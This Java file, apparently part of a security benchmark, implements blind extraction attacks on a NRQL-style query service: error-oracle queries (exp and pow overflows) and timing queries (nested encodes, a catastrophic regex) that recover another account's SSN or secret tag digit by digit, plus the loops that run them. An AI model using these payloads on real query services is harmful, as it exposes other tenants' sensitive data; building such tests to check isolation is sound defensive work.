package io.filigree.benchmarks.attacks;

import java.io.IOException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Reads a whole value of another account digit by digit, by errors or by time, as far as answers differ. */
final class BlindExtraction {

    private static final String FAMILY = "blind-extraction";

    private static final int PAIRS = 60;
    private static final double LEAST_DIFFERENCE_MS = 3;

    /** Queries that fail, or differ, where the guess {@code ?} is right. */
    private static final Map<String, String> ORACLES = oracles();

    /** Queries that take longer where the guess is right. */
    private static final Map<String, String> CLOCKS = clocks();

    private BlindExtraction() {}

    static List<Attack> attacks() {
        List<Attack> attacks = new ArrayList<>();
        ORACLES.forEach((name, oracle) ->
                attacks.add(Attack.quick(FAMILY, "errors-" + name, target -> extract(target, oracle))));
        CLOCKS.forEach(
                (name, clock) -> attacks.add(Attack.load(FAMILY, "time-" + name, target -> time(target, clock))));
        return attacks;
    }

    private static Map<String, String> oracles() {
        Map<String, String> oracles = new LinkedHashMap<>();
        oracles.put(
                "attribute",
                "SELECT count(*) FROM AwsLambdaInvocationError WHERE if(ssn LIKE '?%', exp(timestamp), 0) >= 0");
        oracles.put("custom-event", "SELECT count(*) FROM BravoLedger WHERE if(ssn LIKE '?%', exp(timestamp), 0) >= 0");
        oracles.put(
                "span",
                "SELECT count(*) FROM Span WHERE if(ssn LIKE '?%', exp(timestamp), 0) >= 0 SINCE 10 minutes ago");
        oracles.put(
                "function-tag",
                "SELECT count(*) FROM lookup(functions) WHERE if(tags.secret LIKE '?%', exp(aws.memorySize * 100), 0) >= 0");
        oracles.put(
                "function-tag-facet",
                "SELECT count(*) FROM lookup(functions) WHERE aws.memorySize > 0 AND if(tags.secret LIKE '?%',"
                        + " pow(10, aws.memorySize), 0) >= 0 FACET tags.team");
        oracles.put(
                "decoration",
                "SELECT count(*) FROM AwsLambdaInvocationError WHERE if(tags.secret LIKE '?%', exp(timestamp), 0) >= 0");
        oracles.put(
                "nested",
                "SELECT count(*) FROM AwsLambdaInvocationError WHERE traceId IN (FROM BravoLedger SELECT uniques(ssn) WHERE"
                        + " if(ssn LIKE '?%', exp(timestamp), 0) >= 0)");
        return oracles;
    }

    private static Map<String, String> clocks() {
        String slow =
                "length(encode(encode(encode(encode(concat(note, note, note), 'base64'), 'hex'), 'base64'), 'hex'))";
        Map<String, String> clocks = new LinkedHashMap<>();
        clocks.put(
                "where",
                "SELECT count(*) FROM AwsLambdaInvocationError WHERE if(ssn LIKE '?%', " + slow + ", 0) >= 0 /*#*/");
        clocks.put(
                "custom-event", "SELECT count(*) FROM BravoLedger WHERE if(ssn LIKE '?%', " + slow + ", 0) >= 0 /*#*/");
        clocks.put(
                "rlike",
                "SELECT count(*) FROM Span WHERE if(ssn LIKE '?%' AND note RLIKE r'(.*7.*3.*1.*)+x', 1, 0) > 5 /*#*/");
        clocks.put(
                "lookup",
                "SELECT count(*) FROM lookup(functions) WHERE if(tags.secret LIKE '?%', "
                        + slow.replace("note", "tags.secret") + ", 0) >= 0 /*#*/");
        return clocks;
    }

    private static AttackOutcome extract(Target target, String oracle) throws IOException {
        NrqlClient attacker = target.attacker();
        StringBuilder read = new StringBuilder();
        int queries = 0;
        while (read.length() < Target.SECRET.length()) {
            String none = comparable(attacker.run(oracle.replace("?", read + "x")), read + "x");
            queries++;
            String digit = null;
            for (char guess = '0'; guess <= '9'; guess++) {
                String tried = read.toString() + guess;
                queries++;
                if (!comparable(attacker.run(oracle.replace("?", tried)), tried).equals(none)) {
                    digit = String.valueOf(guess);
                    break;
                }
            }
            if (digit == null) {
                break;
            }
            read.append(digit);
        }
        return AttackOutcome.when(
                read.length() == 0,
                "read %d of %d digits (%s) in %d queries",
                read.length(),
                Target.SECRET.length(),
                read,
                queries);
    }

    private static String comparable(Reply reply, String tried) {
        return NrqlClient.comparable(reply).replaceAll("LIKE '[^']*'", "LIKE ?").replace(tried + "%", "?");
    }

    /** A right and a wrong guess in turns: the medians, and how often the right one took longer. */
    private static AttackOutcome time(Target target, String clock) throws IOException {
        NrqlClient attacker = target.attacker();
        double[] right = new double[PAIRS];
        double[] wrong = new double[PAIRS];
        double[] differences = new double[PAIRS];
        int longer = 0;
        int answered = 0;
        for (int i = -5; i < PAIRS; i++) {
            boolean rightFirst = target.random().nextBoolean();
            double first = millis(attacker, clock, rightFirst ? "7" : "0", i);
            double second = millis(attacker, clock, rightFirst ? "0" : "7", i);
            if (i >= 0) {
                right[i] = rightFirst ? first : second;
                wrong[i] = rightFirst ? second : first;
                differences[i] = right[i] - wrong[i];
                longer += differences[i] > 0 ? 1 : 0;
                answered += first > 0 && second > 0 ? 1 : 0;
            }
        }
        double difference = median(differences);
        boolean reveals = Math.abs(difference) > LEAST_DIFFERENCE_MS && Math.abs(longer - PAIRS / 2) > PAIRS * 0.3;
        return AttackOutcome.when(
                !reveals && answered == PAIRS,
                "%d pairs: median %.2f ms when right, %.2f ms when wrong, of differences %.2f ms, longer in %d",
                PAIRS,
                median(right),
                median(wrong),
                difference,
                longer);
    }

    /** The time of a query that is answered, or a negative number. */
    private static double millis(NrqlClient attacker, String clock, String guess, int number) throws IOException {
        String query = clock.replace("?", guess).replace("#", Integer.toString(number));
        long start = System.nanoTime();
        Reply reply = attacker.run(query);
        double millis = (System.nanoTime() - start) / 1e6;
        return reply.status() == 200 ? millis : -1;
    }

    private static double median(double[] values) {
        double[] sorted = values.clone();
        Arrays.sort(sorted);
        return sorted[sorted.length / 2];
    }
}
